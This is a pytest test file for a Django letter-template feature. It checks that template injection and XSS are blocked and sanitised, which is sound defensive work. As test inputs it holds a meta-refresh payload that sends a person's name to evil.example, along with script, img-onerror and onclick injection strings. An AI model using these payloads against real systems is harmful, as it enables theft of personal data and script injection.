"""An administrator's letter template cannot put markup of its own into a letter: not in
its text, nor in string literals that Django prints unescaped (`firstof`, `with`, a
filter's argument), nor through a filter applied inside those tags. What reaches the page
and the PDF is cleaned again by an allow-list sanitiser."""

import pytest
from django.urls import reverse

from caution.letters import rendering
from caution.letters.selectors import template_source

pytestmark = pytest.mark.django_db

# A person's name and address sent to an outside site when a register officer opens the
# letter: the Content Security Policy does not cover a meta refresh.
EXFILTRATION = (
    '{% firstof "<meta http-equiv=refresh content=\'0;url=https://evil.example/?n=" %}'
    '{{ person_name }}{% firstof "\'>" %}'
)


@pytest.mark.parametrize(
    "source",
    [
        EXFILTRATION,
        '{% with x="<script>alert(1)</script>" %}{{ x }}{% endwith %}',
        '{{ person_name|default:"<img src=x onerror=alert(1)>" }}',
        '{{ restrictions|join:"<a href=https://evil.example>" }}',
        "{% firstof person_name|safe %}",
        "{% with x=person_name|safe %}{{ x }}{% endwith %}",
    ],
)
def test_a_template_cannot_save_markup_hidden_in_a_literal_or_a_tag(
    client, settings, administrator, source
):
    settings.CAUTION_PROFILE = "harborough"
    client.force_login(administrator)

    page = client.post(
        reverse("letters:template", args=["warning"]), {"source": source, "save": "1"}
    )

    assert page.status_code == 200
    assert "There is a problem" in page.content.decode()
    assert template_source("harborough", "warning") == rendering.shipped_source(
        "harborough", "warning"
    )


def test_the_live_preview_shows_no_meta_refresh_built_from_the_persons_name(
    client, settings, administrator
):
    settings.CAUTION_PROFILE = "harborough"
    client.force_login(administrator)

    page = client.post(
        reverse("letters:template_preview", args=["warning"]), {"source": EXFILTRATION}
    )

    assert "evil.example" not in page.content.decode()
    assert "<meta" not in page.content.decode()


def test_an_issued_letter_is_shown_without_any_script_or_meta_its_snapshot_held():
    snapshot = (
        "<html><!-- body --><p>Dear Mr Smith</p><script>alert(1)</script>"
        "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
        '<p onclick="steal()">Yours</p><!-- /body --></html>'
    )

    shown = rendering.issued_body(snapshot)

    assert shown == "<p>Dear Mr Smith</p><p>Yours</p>"
